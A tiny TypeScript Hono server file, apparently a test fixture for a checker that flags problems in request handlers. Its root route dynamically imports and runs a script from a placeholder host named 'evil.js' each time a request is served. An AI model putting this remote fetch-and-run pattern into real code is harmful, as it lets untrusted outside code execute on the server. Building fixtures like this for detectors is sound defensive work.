// ends: incident handler-error at here
// about: the same, while a request is served
import { Hono } from 'hono';

const app = new Hono();
app.get('/fine', (c) => c.json({}));

app.get('/', async (c) => { // here
  await import('https://example.invalid/evil.js' as string);
  return c.json({});
});

export default app;
